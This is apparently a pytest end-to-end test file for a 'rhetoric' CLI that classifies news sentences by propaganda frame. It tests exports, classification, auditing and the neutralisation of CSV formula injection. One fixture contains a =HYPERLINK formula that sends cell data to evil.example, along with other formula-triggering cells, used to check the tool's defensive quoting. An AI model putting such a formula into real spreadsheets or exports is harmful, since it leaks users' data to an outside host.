"""The command line end to end, as a user runs it, in a temporary copy of the project."""

import csv
import json
import re
import subprocess
import sys

import pytest

from tests.project_fixtures import make_project

pytestmark = pytest.mark.slow

SENTENCES_COLUMNS_HEAD = ["source", "published", "outlet", "title", "idx", "text"]
RUNS_COLUMNS = ["run_id", "started", "finished", "status", "articles_new", "sentences_new", "model_version"]


def rhetoric(project, *args, stdin: str | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "rhetoric.cli", *args], cwd=project, input=stdin,
                          capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    return make_project(tmp_path_factory.mktemp("cli"))


@pytest.fixture(scope="module")
def ran(project):
    first = rhetoric(project, "run")
    second = rhetoric(project, "run")
    return first, second


def test_run_on_seeds_prints_the_summary_and_writes_the_dashboard(project, ran):
    first, second = ran
    assert first.returncode == 0, first.stderr
    assert "articles: 5 new, 0 already stored, 0 refused" in first.stdout
    assert "model version: " in first.stdout
    assert (project / "outputs" / "index.html").is_file()
    assert (project / ".rhetoric" / "rhetoric.db").is_file()
    assert second.returncode == 0, second.stderr
    assert "articles: 0 new, 5 already stored, 0 refused" in second.stdout
    # the run closed its store: SQLite folded the write-ahead log back in (the process skips collecting it)
    assert not (project / ".rhetoric" / "rhetoric.db-wal").exists()


def test_export_sentences_has_the_contract_columns(project, ran):
    out = project / "sentences.csv"
    result = rhetoric(project, "export", "sentences", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    header = list(rows[0])
    frames = [c for c in header[len(SENTENCES_COLUMNS_HEAD):]
              if not c.startswith("score_") and c not in ("model_version", "language")]
    assert header == SENTENCES_COLUMNS_HEAD + frames + [f"score_{f}" for f in frames] + ["model_version", "language"]
    assert {r["language"] for r in rows} == {"en"}
    assert set(frames) == {"multipolarity", "anti_sanctions", "peace_talks", "anti_hegemony"}
    assert len(rows) > 100
    assert {r["published"] for r in rows} >= {"2022-03-30", "2023-02-22", "2024-04-09"}
    assert all(r[f] in ("0", "1") for r in rows for f in frames)
    headline = next(r for r in rows if r["source"].startswith("004_") and r["idx"] == "0")
    assert headline["text"] == "China, Russia to move firmly, confidently toward multipolar world: FM"
    assert headline["outlet"] == "Al Mayadeen English"


def test_export_runs_has_the_contract_columns(project, ran):
    out = project / "runs.csv"
    assert rhetoric(project, "export", "runs", "--out", str(out)).returncode == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0]) == RUNS_COLUMNS
    assert [r["status"] for r in rows] == ["completed", "completed"]
    assert [r["articles_new"] for r in rows] == ["5", "0"]


def test_classify_jsonl_keeps_input_order_and_reads_stdin(project):
    lines = ["The illegal unilateral sanctions imposed on Russia are counterproductive.",
             "The weather in Beijing was mild on Tuesday.",
             "China supports peace talks between Russia and Ukraine."]
    result = rhetoric(project, "classify", "--format", "jsonl", stdin="\n".join(lines) + "\n")
    assert result.returncode == 0, result.stderr
    objects = [json.loads(line) for line in result.stdout.splitlines()]
    assert [o["text"] for o in objects] == lines
    assert all(set(o) == {"text", "labels", "scores"} for o in objects)
    assert "anti_sanctions" in objects[0]["labels"]
    assert objects[1]["labels"] == []
    assert "peace_talks" in objects[2]["labels"]
    assert all(0.0 <= p <= 1.0 for o in objects for p in o["scores"].values())


def test_classify_table_from_arguments(project):
    result = rhetoric(project, "classify", "Moscow and Beijing called for a multipolar world order.")
    assert result.returncode == 0, result.stderr
    header, row = result.stdout.splitlines()
    assert header.startswith("labels\t") and header.endswith("\ttext")
    assert row.startswith("multipolarity")


def test_classify_does_not_start_prefect(project):
    code = ("import sys; from rhetoric.cli import main; main(['classify', 'Sanctions are illegal.']); "
            "print('PREFECT' if 'prefect' in sys.modules else 'NO-PREFECT')")
    result = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().endswith("NO-PREFECT")


def test_the_console_script_hands_its_objects_back_uncollected(project):
    """console() returns main()'s exit code with the collector frozen: the interpreter's exit skips
    collecting the objects a command leaves (0.5-0.7 s of every run)."""
    code = ("import gc, sys; from rhetoric.cli import console; "
            "sys.argv = ['rhetoric', 'export', 'runs', '--db', 'nonsense://x', '--out', 'x.csv']; "
            "print('exit', console(), 'frozen', gc.get_freeze_count() > 0)")
    result = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True, text=True)
    assert result.stdout.split() == ["exit", "1", "frozen", "True"], result.stderr
    assert result.stderr.startswith("rhetoric: error: cannot open the store")


def test_unusable_store_is_a_clear_error_without_traceback(project):
    result = rhetoric(project, "export", "runs", "--db", "nonsense://x", "--out", "x.csv")
    assert result.returncode == 1
    assert result.stderr.startswith("rhetoric: error: cannot open the store")
    assert "Traceback" not in result.stderr


def test_audit_draw_review_and_report(project, ran):
    out = project / "audit.csv"
    result = rhetoric(project, "label", "audit", "-n", "40", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0]) == ["text", "frames", "origin", "batch", "weight", "sentence_id", "source", "outlet",
                             "published", "model_version"]
    assert len(rows) == 40 and {r["origin"] for r in rows} == {""}
    assert abs(sum(float(r["weight"]) for r in rows) - 124) < 1e-3  # weights add up to the stored sentences
    # reviewed (origin set to audit) and saved under labels/audit/, it is reported
    (project / "labels" / "audit").mkdir(exist_ok=True)
    reviewed = project / "labels" / "audit" / "seeds.csv"
    with reviewed.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**r, "origin": "audit"} for r in rows)
    report = rhetoric(project, "label", "audit", "--report")
    assert report.returncode == 0, report.stderr
    assert "audit: 40 reviewed sentences" in report.stdout and "precision" in report.stdout
    reviewed.unlink()


def test_classify_keeps_one_output_line_per_input_line_blank_ones_included(project):
    lines = ["The illegal sanctions will fail.", "", "Peace talks must resume.", "   "]
    jsonl = rhetoric(project, "classify", "--format", "jsonl", stdin="\n".join(lines) + "\n")
    objects = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [o["text"] for o in objects] == lines
    assert objects[1] == {"text": "", "labels": [], "scores": {}}
    table = rhetoric(project, "classify", stdin="\n".join(lines) + "\n")
    rows = table.stdout.splitlines()[1:]
    assert len(rows) == 4 and rows[1].split("\t")[0] == "" and rows[1].endswith("\t")


def test_status_names_project_champion_audit_store_and_runs(project, ran):
    result = rhetoric(project, "status")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert f"project: {project.resolve()}" in out and "champion: " in out and "audit: " in out
    assert "5 articles, 124 sentences" in out and "completed" in out and "error rates: " in out


FORMULA_ARTICLE = """Sanctions row deepens

=HYPERLINK("http://evil.example/?x="&A1,"Click") said the minister about the illegal sanctions on Monday.

@RT_com reported that the unilateral sanctions are illegal and must be lifted at once.

-2 percent is what the economy shrank under the illegal sanctions, officials said.

+1 for peace talks between Russia and Ukraine, the envoy wrote on Tuesday.
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _opens_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def formulas(tmp_path_factory):
    """A project, run once, with an article whose sentences, outlet and title a spreadsheet would run as formulas."""
    project = make_project(tmp_path_factory.mktemp("formulas"))
    articles = project / "articles"
    articles.mkdir()
    (articles / "formula.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
    (articles / "manifest.csv").write_text("file,published,outlet,title,url\n"
                                           "formula.txt,2024-03-01,@Formula News,=Sanctions row deepens,\n",
                                           encoding="utf-8")
    done = rhetoric(project, "run", "--source", "articles")
    assert done.returncode == 0, done.stderr
    return project


@pytest.mark.parametrize("command", [["export", "sentences"], ["export", "trends", "--by", "outlet"],
                                     ["label", "suggest", "-n", "1000"], ["label", "audit", "-n", "1000"]],
                         ids=lambda c: " ".join(c[:2]))
def test_csv_cells_that_open_as_formulas_get_a_quote_unless_raw(formulas, command):
    safe, raw = formulas / "safe.csv", formulas / "raw.csv"
    for out, extra in ((safe, []), (raw, ["--raw"])):
        done = rhetoric(formulas, *command, "--out", str(out), *extra)
        assert done.returncode == 0, done.stderr
    safe_rows, raw_rows = _cells(safe), _cells(raw)
    assert safe_rows[0] == raw_rows[0] and len(safe_rows) == len(raw_rows)  # same columns in the same order
    risky = [cell for row in raw_rows[1:] for cell in row if _opens_as_formula(cell)]
    assert "@Formula News" in risky  # --raw writes them as they are
    for raw_row, safe_row in zip(raw_rows[1:], safe_rows[1:]):
        assert safe_row == [f"'{c}" if _opens_as_formula(c) else c for c in raw_row]


def test_a_neutralised_suggestion_reviewed_into_labels_reads_back_as_the_stored_sentence(formulas):
    from rhetoric.labels import load_frames, load_labels

    out, raw = formulas / "suggest.csv", formulas / "suggest-raw.csv"
    assert rhetoric(formulas, "label", "suggest", "-n", "1000", "--out", str(out)).returncode == 0
    assert rhetoric(formulas, "label", "suggest", "-n", "1000", "--out", str(raw), "--raw").returncode == 0
    rows = [r for r in csv.DictReader(out.open(encoding="utf-8")) if r["outlet"] == "'@Formula News"]
    stored = sorted(r["text"] for r in csv.DictReader(raw.open(encoding="utf-8")) if r["outlet"] == "@Formula News")
    assert {r["text"][:3] for r in rows} >= {"'=H", "'@R", "'-2", "'+1"}
    reviewed = formulas / "labels" / "reviewed_formulas.csv"
    with reviewed.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**r, "origin": "reviewed"} for r in rows)
    try:
        labels_dir = formulas / "labels"
        loaded = load_labels(labels_dir, load_frames(labels_dir))
    finally:
        reviewed.unlink()
    mine = loaded[loaded["file"] == "labels/reviewed_formulas.csv"]
    assert sorted(mine["text"]) == stored and len(stored) == 5
    assert any(t.startswith('=HYPERLINK("http://evil.example/') for t in mine["text"])
    assert set(mine["outlet"]) == {"@Formula News"}


def test_label_import_quotes_formula_text_unless_raw(project):
    export = project / "doccano.jsonl"
    export.write_text(json.dumps({"text": "=1+1 said the envoy about peace talks.", "label": ["peace_talks"]}) + "\n",
                      encoding="utf-8")
    safe = rhetoric(project, "label", "import", str(export))
    raw = rhetoric(project, "label", "import", str(export), "--raw")
    assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
    assert safe.stdout.splitlines()[1].startswith("'=1+1 said the envoy")
    assert raw.stdout.splitlines()[1].startswith("=1+1 said the envoy")
